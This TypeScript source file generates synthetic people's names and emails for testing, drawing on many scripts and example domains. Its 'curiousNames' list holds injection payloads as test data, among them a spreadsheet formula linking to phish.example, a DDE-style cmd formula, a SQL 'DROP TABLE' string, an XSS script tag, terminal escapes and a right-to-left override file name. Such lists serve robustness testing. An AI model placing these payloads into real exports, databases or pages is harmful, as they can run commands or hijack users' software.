import {hash, pick} from './random.ts';

/** What a generated person is called and reached at. */
export type NameAndEmail = {
	readonly displayName: string;
	readonly email: string;
};

/**
The name and the email of the person with this number. The email ends in the number, so that a person can be found by
email without a table; the names come from many languages, and about one in a hundred is of the kind that breaks
spreadsheets, terminals and layouts.
*/
export function nameAndEmail(seed: number, number: number): NameAndEmail {
	const drawn = hash(seed, number, 11);
	const language = pick(languages, drawn);
	const byFamily = pick(language, Math.floor(drawn / 64));
	const {shown, latin} = pick(byFamily, Math.floor(drawn / 4096));
	const domain = pick(domains, Math.floor(drawn / 262_144));
	return {
		displayName:
			number % 97 === 41 ? pick(curiousNames, Math.floor(number / 97)) : shown,
		email: `${latin}.${number}@${domain}`,
	};
}

/** The number in a generated person's email, if there is one. */
export function numberInEmail(email: string): number | undefined {
	const digits = /\.(?<digits>\d{1,10})@/v.exec(email)?.groups?.['digits'];
	return digits === undefined ? undefined : Number(digits);
}

/** Names that have broken exports, screens and terminals elsewhere. */
export const curiousNames: readonly string[] = [
	'=HYPERLINK("https://phish.example/?"&A1,"Open me")',
	'+1 555 0100',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'-2+3',
	'\u{1B}[31mRed\u{1B}[0m \u{1B}]0;title\u{7}',
	'\u{202E}gnp.exe',
	'👩‍👩‍👧‍👦 Family 👍🏽',
	'Zo\u{308}e Å\u{30A}ngstro\u{308}m',
	`Bartholomew ${'Maximilian '.repeat(16)}of the Long Name`.slice(0, 200),
	'漢'.repeat(100),
	'مدير خدمة العملاء (Support)',
	'X',
	'Robert "); DROP TABLE customers;--',
	'<script>alert(1)</script> & Sons',
	'  Padded   with  blanks ',
	'Line\nbreak\tand tab',
	'a\u{200B}b\u{200C}c\u{FEFF}d',
	'🇯🇵🇧🇷🇸🇪',
	'null',
	'%s %n {0} $(name)',
];

/** A name, and how it is spelled in emails. */
type Name = {readonly shown: string; readonly latin: string};

/** Full names, a list for each given name. They are put together once, and not for each of a million people. */
type Language = ReadonlyArray<readonly Name[]>;

// Plain Latin names come up more often than the others, as they do on most sites.
const plainLatin = languageOf(
	'Amara Ben Chloe Dario Elif Farah Greta Hugo Ines Jonas Kofi Lena Mateo Nora Omar Priya Quinn Rosa Sven Tara',
	'Okafor Novak Silva Berg Rossi Kaya Fischer Moreau Larsen Haddad Mensah Ortiz Patel Quist Ruiz Smith Tanaka Weber',
);

const languages: readonly Language[] = [
	plainLatin,
	plainLatin,
	plainLatin,
	languageOf(
		'Zoë|zoe Łukasz|lukasz Åsa|asa Müge|muge Renée|renee Jiří|jiri Íñigo|inigo Søren|soren',
		'Ångström|angstrom Çelik|celik Dvořák|dvorak Müller|muller Nuñez|nunez Żak|zak Ólafsson|olafsson',
	),
	languageOf(
		'美咲|misaki 健太|kenta さくら|sakura 大翔|hiroto',
		'佐藤|sato 鈴木|suzuki 高橋|takahashi 田中|tanaka',
		true,
	),
	languageOf(
		'伟|wei 芳|fang 秀英|xiuying 磊|lei',
		'王|wang 李|li 张|zhang 陈|chen',
		true,
	),
	languageOf(
		'민준|minjun 서연|seoyeon 지우|jiwoo 하은|haeun',
		'김|kim 이|lee 박|park 최|choi',
		true,
	),
	languageOf(
		'Анна|anna Иван|ivan Ольга|olga Дмитро|dmytro',
		'Петров|petrov Шевченко|shevchenko Иванова|ivanova',
	),
	languageOf(
		'محمد|mohammed فاطمة|fatima علي|ali ليلى|layla',
		'الحسن|alhasan العلي|alali منصور|mansour',
	),
	languageOf(
		'נועה|noa דוד|david יעל|yael איתי|itai',
		'כהן|cohen לוי|levi מזרחי|mizrahi',
	),
	languageOf(
		'अदिति|aditi रोहन|rohan प्रिया|priya',
		'शर्मा|sharma पटेल|patel राव|rao',
	),
	languageOf(
		'Νίκος|nikos Ελένη|eleni Γιώργος|giorgos',
		'Παπαδόπουλος|papadopoulos Δήμου|dimou',
	),
	languageOf('สมชาย|somchai มาลี|malee อรุณ|arun', 'ใจดี|jaidee สุขใจ|sukjai'),
];

const domains = [
	'fabrikam',
	'litware',
	'tailspin',
	'wingtip',
	'proseware',
	'adatum',
	'lucerne',
	'margies',
	'alpine-ski',
	'blue-yonder',
	'city-power',
	'coho',
	'fourth-coffee',
	'graphic-design',
	'humongous',
	'treyresearch',
].map((name) => `${name}.example`);

function languageOf(
	given: string,
	family: string,
	isFamilyFirst = false,
): Language {
	const families = namesIn(family);
	return namesIn(given).map((first) =>
		families.map((last) => ({
			shown: isFamilyFirst
				? `${last.shown}${first.shown}`
				: `${first.shown} ${last.shown}`,
			latin: `${first.latin}.${last.latin}`,
		})),
	);
}

function namesIn(text: string): Name[] {
	return text.split(' ').map((entry) => {
		const [shown = '', latin = shown.toLowerCase()] = entry.split('|', 2);
		return {shown, latin};
	});
}
